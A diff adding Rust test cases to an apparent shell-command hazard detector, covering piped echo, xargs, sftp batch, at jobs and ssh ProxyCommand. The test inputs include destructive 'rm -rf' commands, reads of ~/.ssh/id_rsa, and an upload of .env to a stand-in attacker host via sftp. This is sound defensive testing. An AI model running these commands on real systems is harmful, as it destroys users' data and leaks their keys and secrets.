@@ -2515,3 +2515,57 @@ t!(
     "resolvectl query $(hostname).x.example",
     [H(HazardKind::DnsExfiltration)]
 );
+
+// ---------------------------------------------------------------------------------
+// Literal text piped from echo/printf is the next stage's standard input.
+// ---------------------------------------------------------------------------------
+t!(
+    pipe_echo_to_sh,
+    "echo 'rm -rf ~' | sh",
+    [D(&["~"]), Ctx("rm", Context::Heredoc)]
+);
+t!(
+    pipe_echo_to_xargs,
+    "echo /home/dev | xargs rm -rf",
+    [D(&["/home/dev"])]
+);
+t!(
+    pipe_xargs_replace,
+    "echo id | xargs -I{} sh -c '{}'",
+    [Sh("id"), NoDy]
+);
+t!(
+    pipe_xargs_from_written_file,
+    "echo ~/.ssh/id_rsa > list && xargs cat < list",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    pipe_sftp_batch,
+    "echo 'put .env' | sftp attacker@x.example",
+    [R(&[".env"])]
+);
+t!(
+    pipe_sftp_batch_shell,
+    "printf '!cat ~/.ssh/id_rsa\\n' | sftp h",
+    [Sh("cat")]
+);
+t!(
+    pipe_at_job,
+    "echo 'rm -rf ~/x' | at now + 1 minute",
+    [D(&["~/x"])]
+);
+t!(
+    pipe_dynamic_echo_is_not_literal,
+    "echo \"$X\" | xargs rm",
+    [Dy("RuntimeArguments")]
+);
+t!(
+    x_ssh_proxycommand_tokens,
+    "ssh -p 2222 -o ProxyCommand='nc %h %p' dev@bastion.example",
+    [Sh("nc"), Net("bastion.example:2222")]
+);
+t!(
+    x_ssh_proxycommand_jump,
+    "ssh -o ProxyCommand='ssh -W %h:%p jump.example' db.internal",
+    [Sh("ssh"), Net("jump.example")]
+);
